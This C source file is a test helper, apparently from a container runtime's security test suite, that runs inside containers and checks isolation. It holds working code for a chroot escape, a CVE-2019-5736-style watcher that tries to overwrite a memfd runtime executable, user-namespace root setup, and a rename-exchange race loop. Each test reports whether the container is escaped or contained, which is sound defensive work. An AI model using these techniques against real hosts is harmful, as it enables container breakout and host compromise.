/* probe: a small static multi-tool run inside test containers (like crun's /init).
 *   probe chroot-escape MARKER [WORKDIR]  the classic chroot escape, then try to read MARKER:
 *                                         prints "ESCAPED <content>" or "CONTAINED"
 *   probe fds                             the open fds, one per line (not the dirfd used to list them)
 *   probe cwd                             getcwd(), or "ERROR errno" when the kernel has none to give
 *   probe caps                            CapInh/CapPrm/CapEff/CapBnd/CapAmb lines of /proc/self/status
 *   probe read PATH                       "BYTES n" with the number of bytes read, or "ERROR errno-name"
 *   probe write PATH TEXT                 "OK", or "ERROR errno-name"
 *   probe udp-echo PORT                   answers each UDP datagram on PORT with "echo:" and the datagram
 *   probe exe-watch OUT STOP              CVE-2019-5736's watcher: until STOP exists, opens /proc/PID/exe of
 *                                         every other process; then writes to OUT one "EXE dev:ino WRITE
 *                                         result link" line per executable it could open (a memfd one is
 *                                         kept open and, once STOP exists, reopened for writing, as the
 *                                         attack does once the runtime has exited; nothing else is), and
 *                                         "DENIED n" for the processes whose exe it was refused
 *   probe syscall NR [ARG...]             syscall(NR, ARG...) (numbers, 0x for hex): "RET n" or "ERRNO n"
 *   probe userns-root CMD...              unshare(2) a user, mount and cgroup namespace, map its root to our
 *                                         uid where allowed (as `unshare -UrmC`, which busybox lacks), then
 *                                         exec CMD; "ERROR unshare errno-name" when refused
 *   probe exchange-loop A B STOP          swaps the names A and B (renameat2 RENAME_EXCHANGE) again and
 *                                         again until the file STOP exists, then prints the count: the
 *                                         racing attacker of the mount-race CVE tests, run on the host
 * Built by the test helper with `gcc -static -O2`. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <netinet/in.h>
#include <sched.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char *errname(int e) {
  switch (e) {
    case ENOENT: return "ENOENT";
    case EACCES: return "EACCES";
    case EPERM: return "EPERM";
    case EROFS: return "EROFS";
    case EINVAL: return "EINVAL";
    case EIO: return "EIO";
    case ENOTDIR: return "ENOTDIR";
    case EISDIR: return "EISDIR";
    case ETXTBSY: return "ETXTBSY";
    default: return "EOTHER";
  }
}

static int chroot_escape(const char *marker, const char *workdir) {
  if (chdir(workdir) < 0) {
    printf("ERROR chdir %s %s\n", workdir, errname(errno));
    return 2;
  }
  if (mkdir("escape-x", 0755) < 0 && errno != EEXIST) {
    printf("ERROR mkdir %s\n", errname(errno));
    return 2;
  }
  /* chroot into a subdirectory while the cwd stays outside it: ".." then walks past the new root. */
  if (chroot("escape-x") < 0) {
    printf("ERROR chroot %s\n", errname(errno));
    return 2;
  }
  for (int k = 0; k < 256; k++)
    if (chdir("..") < 0) break;
  if (chroot(".") < 0) {
    printf("ERROR chroot-dot %s\n", errname(errno));
    return 2;
  }
  int fd = open(marker, O_RDONLY);
  if (fd < 0) {
    printf("CONTAINED\n");
    return 0;
  }
  char buf[512];
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  buf[n > 0 ? n : 0] = 0;
  printf("ESCAPED %s\n", buf);
  return 0;
}

static int list_fds(void) {
  DIR *d = opendir("/proc/self/fd");
  if (!d) {
    printf("ERROR opendir %s\n", errname(errno));
    return 2;
  }
  int self = dirfd(d);
  struct dirent *e;
  while ((e = readdir(d)) != NULL) {
    if (e->d_name[0] == '.') continue;
    int fd = atoi(e->d_name);
    if (fd == self) continue;
    printf("%d\n", fd);
  }
  closedir(d);
  return 0;
}

static int print_cwd(void) {
  char buf[4096];
  /* The raw syscall: glibc's getcwd would hide the kernel's "(unreachable)" prefix behind ENOENT. */
  long n = syscall(SYS_getcwd, buf, sizeof buf);
  if (n < 0) {
    printf("ERROR %s\n", errname(errno));
    return 2;
  }
  printf("%s\n", buf);
  return 0;
}

static int print_caps(void) {
  FILE *f = fopen("/proc/self/status", "r");
  if (!f) {
    printf("ERROR %s\n", errname(errno));
    return 2;
  }
  char line[256];
  while (fgets(line, sizeof line, f))
    if (strncmp(line, "Cap", 3) == 0) fputs(line, stdout);
  fclose(f);
  return 0;
}

static int read_path(const char *path) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) {
    printf("ERROR %s\n", errname(errno));
    return 0;
  }
  char buf[4096];
  long total = 0;
  ssize_t n;
  while ((n = read(fd, buf, sizeof buf)) > 0) total += n;
  int e = errno;
  close(fd);
  if (n < 0) printf("ERROR %s\n", errname(e));
  else printf("BYTES %ld\n", total);
  return 0;
}

static int write_path(const char *path, const char *text) {
  int fd = open(path, O_WRONLY);
  if (fd < 0 || write(fd, text, strlen(text)) < 0) {
    printf("ERROR %s\n", errname(errno));
    return 0;
  }
  close(fd);
  printf("OK\n");
  return 0;
}

static int udp_echo(int port) {
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr = {htonl(INADDR_ANY)}};
  if (s < 0 || bind(s, (struct sockaddr *)&addr, sizeof addr) < 0) {
    printf("ERROR bind %s\n", errname(errno));
    return 2;
  }
  char buf[1500];
  memcpy(buf, "echo:", 5);
  for (;;) {
    struct sockaddr_in peer;
    socklen_t len = sizeof peer;
    ssize_t n = recvfrom(s, buf + 5, sizeof buf - 5, 0, (struct sockaddr *)&peer, &len);
    if (n >= 0) sendto(s, buf, n + 5, 0, (struct sockaddr *)&peer, len);
  }
}

struct seen_exe {
  int fd; /* kept open for the write attempt at the end: memfds only, else -1 */
  dev_t dev;
  ino_t ino;
  char link[256];
  char write[32];
};

/* Tries the attack's second half on a memfd executable: reopen it for writing and write a byte. */
static void try_write(int fd, char *result, size_t size) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  int w = open(path, O_WRONLY);
  if (w < 0) {
    snprintf(result, size, "open-%s", errname(errno));
    return;
  }
  ssize_t n = pwrite(w, "x", 1, 0);
  snprintf(result, size, n == 1 ? "WROTE" : "write-%s", errname(errno));
  close(w);
}

static int exe_watch(const char *out, const char *stop) {
  static struct seen_exe seen[64];
  int nseen = 0;
  long denied = 0;
  pid_t self = getpid();
  while (access(stop, F_OK) < 0) {
    DIR *d = opendir("/proc");
    if (!d) return 2;
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
      pid_t pid = (pid_t)atoi(e->d_name);
      if (pid <= 0 || pid == self) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_PATH | O_CLOEXEC);
      if (fd < 0) {
        if (errno == EACCES || errno == EPERM) denied++;
        continue;
      }
      struct stat st;
      if (fstat(fd, &st) == 0) {
        int known = 0;
        for (int k = 0; k < nseen; k++) known |= seen[k].dev == st.st_dev && seen[k].ino == st.st_ino;
        if (!known && nseen < 64) {
          struct seen_exe *s = &seen[nseen++];
          s->dev = st.st_dev;
          s->ino = st.st_ino;
          ssize_t n = readlink(path, s->link, sizeof s->link - 1);
          s->link[n > 0 ? n : 0] = 0;
          s->fd = strncmp(s->link, "/memfd:", 7) == 0 ? fd : -1;
          snprintf(s->write, sizeof s->write, "not-tried");
          if (s->fd == fd) continue;
        }
      }
      close(fd);
    }
    closedir(d);
  }
  for (int k = 0; k < nseen; k++)
    if (seen[k].fd >= 0) try_write(seen[k].fd, seen[k].write, sizeof seen[k].write);
  FILE *f = fopen(out, "w");
  if (!f) return 2;
  for (int k = 0; k < nseen; k++)
    fprintf(f, "EXE %lu:%lu %s %s\n", (unsigned long)seen[k].dev, (unsigned long)seen[k].ino, seen[k].write, seen[k].link);
  fprintf(f, "DENIED %ld\n", denied);
  fclose(f);
  return 0;
}

/* A raw syscall with up to six numeric arguments: what a seccomp filter answers, unfiltered by libc. */
static int raw_syscall(int argc, char **argv) {
  long nr = strtol(argv[0], NULL, 0);
  unsigned long a[6] = {0};
  for (int k = 1; k < argc && k <= 6; k++) a[k - 1] = strtoul(argv[k], NULL, 0);
  errno = 0;
  long rc = syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]);
  if (rc < 0) printf("ERRNO %d\n", errno);
  else printf("RET %ld\n", rc);
  return 0;
}

static int write_file(const char *path, const char *text) {
  int fd = open(path, O_WRONLY);
  if (fd < 0) return -1;
  ssize_t n = write(fd, text, strlen(text));
  close(fd);
  return n < 0 ? -1 : 0;
}

static int userns_root(char **cmd) {
  char map[64];
  unsigned uid = getuid(), gid = getgid();
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) {
    printf("ERROR unshare %s\n", errname(errno));
    return 2;
  }
  /* Mapping our uid 0 needs CAP_SETFCAP outside: without it the process stays unmapped, which
   * still holds every capability in the new namespaces. */
  snprintf(map, sizeof map, "0 %u 1", uid);
  if (write_file("/proc/self/setgroups", "deny") < 0 || write_file("/proc/self/uid_map", map) < 0)
    fprintf(stderr, "probe: uid_map: %s: running unmapped\n", errname(errno));
  snprintf(map, sizeof map, "0 %u 1", gid);
  if (write_file("/proc/self/gid_map", map) < 0) fprintf(stderr, "probe: gid_map: %s\n", errname(errno));
  execvp(cmd[0], cmd);
  printf("ERROR exec %s\n", errname(errno));
  return 2;
}

static int exchange_loop(const char *a, const char *b, const char *stop) {
  long swaps = 0;
  for (;;) {
    for (int k = 0; k < 256; k++) {
      if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0) {
        printf("ERROR renameat2 %s\n", errname(errno));
        return 2;
      }
      swaps++;
    }
    if (access(stop, F_OK) == 0) break;
  }
  /* An even count leaves both names as they were found. */
  if (swaps % 2 && syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2) == 0) swaps++;
  printf("SWAPS %ld\n", swaps);
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  const char *cmd = argc > 1 ? argv[1] : "";
  if (!strcmp(cmd, "chroot-escape") && argc >= 3) return chroot_escape(argv[2], argc > 3 ? argv[3] : "/tmp");
  if (!strcmp(cmd, "fds")) return list_fds();
  if (!strcmp(cmd, "cwd")) return print_cwd();
  if (!strcmp(cmd, "caps")) return print_caps();
  if (!strcmp(cmd, "read") && argc == 3) return read_path(argv[2]);
  if (!strcmp(cmd, "write") && argc == 4) return write_path(argv[2], argv[3]);
  if (!strcmp(cmd, "udp-echo") && argc == 3) return udp_echo(atoi(argv[2]));
  if (!strcmp(cmd, "exe-watch") && argc == 4) return exe_watch(argv[2], argv[3]);
  if (!strcmp(cmd, "syscall") && argc >= 3 && argc <= 9) return raw_syscall(argc - 2, argv + 2);
  if (!strcmp(cmd, "userns-root") && argc >= 3) return userns_root(argv + 2);
  if (!strcmp(cmd, "exchange-loop") && argc == 5) return exchange_loop(argv[2], argv[3], argv[4]);
  fprintf(stderr, "usage: probe chroot-escape MARKER [WORKDIR] | fds | cwd | caps | read PATH | write PATH TEXT | udp-echo PORT | exe-watch OUT STOP | userns-root CMD... | exchange-loop A B STOP | syscall NR [ARG...]\n");
  return 64;
}
